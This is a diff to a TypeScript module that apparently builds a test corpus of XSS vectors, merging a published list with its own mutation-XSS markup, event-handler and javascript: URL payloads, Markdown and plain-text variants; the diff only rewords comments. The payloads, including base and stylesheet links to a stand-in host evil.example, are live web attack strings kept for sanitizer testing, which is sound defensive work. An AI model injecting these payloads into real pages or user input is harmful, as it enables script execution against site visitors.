@@ -1,8 +1,8 @@
 import published from './xss-vectors.json' with { type: 'json' };
 
-/** Ways into a page that the published list is too old for, or that only a parser of today falls for. */
+/** Vectors newer than the published list. */
 const ownVectors = [
-  // Trees that read differently the second time.
+  // Mutation XSS: markup that changes when it is parsed again.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
@@ -27,7 +27,7 @@ const ownVectors = [
   '<?xml ><img src=x onerror=alert(1)>?>',
   '<![CDATA[<img src=x onerror=alert(1)>]]>',
   '</p/x><img src=x onerror=alert(1)>',
-  // Handlers and addresses in elements that came later.
+  // Handlers and URLs in newer elements.
   '<video src=x onerror=alert(1) autoplay></video>',
   '<video><source onerror=alert(1)></video>',
   '<audio src=x onloadstart=alert(1)></audio>',
@@ -57,7 +57,7 @@ const ownVectors = [
   '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
   '<blockquote cite="javascript:alert(1)">x</blockquote>',
   '<q cite="data:text/html,x">x</q>',
-  // What stands over, in front of or in place of a page's own.
+  // Elements that overlay or replace parts of the page.
   '<base href="https://evil.example/">',
   '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
   '<link rel="stylesheet" href="https://evil.example/x.css">',
@@ -93,7 +93,7 @@ const ownVectors = [
   '<svg><set attributeName=onmouseover to=alert(1)>',
   '<math href="javascript:alert(1)">x</math>',
   '<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>',
-  // The same by way of Markdown.
+  // The same in Markdown.
   '[x](javascript:alert(1))',
   '[x](<javascript:alert(1)>)',
   '[x](JaVaScRiPt&colon;alert(1))',
@@ -113,7 +113,7 @@ const ownVectors = [
   '<details>\n<summary>x</summary>\n\n[x](javascript:alert(1))\n\n</details>',
   '`<img src=x onerror=alert(1)>`<img src=x onerror=alert(1)>',
   '<div>\n*<script>alert(1)</script>*\n</div>',
-  // And of plain text.
+  // The same in plain text.
   '<a href="/x" onclick="alert(1)">x</a><br onclick="alert(1)"><br/onclick=alert(1)>',
   '<a href="/x"\fonclick="alert(1)">x</a>',
   '<a href=/x\nonclick=alert(1)\n>x</a>',
@@ -134,14 +134,14 @@ const ownVectors = [
   'https://[javascript:alert(1)]/',
 ];
 
-/** The published list writes some bytes as `\x00`; they are meant as well. */
+/** Decodes the `\x00` notation of the published list. */
 function withBytes(vector: string): string {
   return vector.replace(/(?:\\x[0-9a-f]{2})+/gi, (bytes) =>
     Buffer.from(bytes.replaceAll('\\x', ''), 'hex').toString('utf8'),
   );
 }
 
-/** Attempts at running a script in a reader's page, or at taking the page over. */
+/** XSS vectors: attempts at running a script or taking over the page. */
 export const xssVectors: readonly string[] = [
   ...new Set([...published.vectors, ...published.vectors.map(withBytes), ...ownVectors]),
 ];
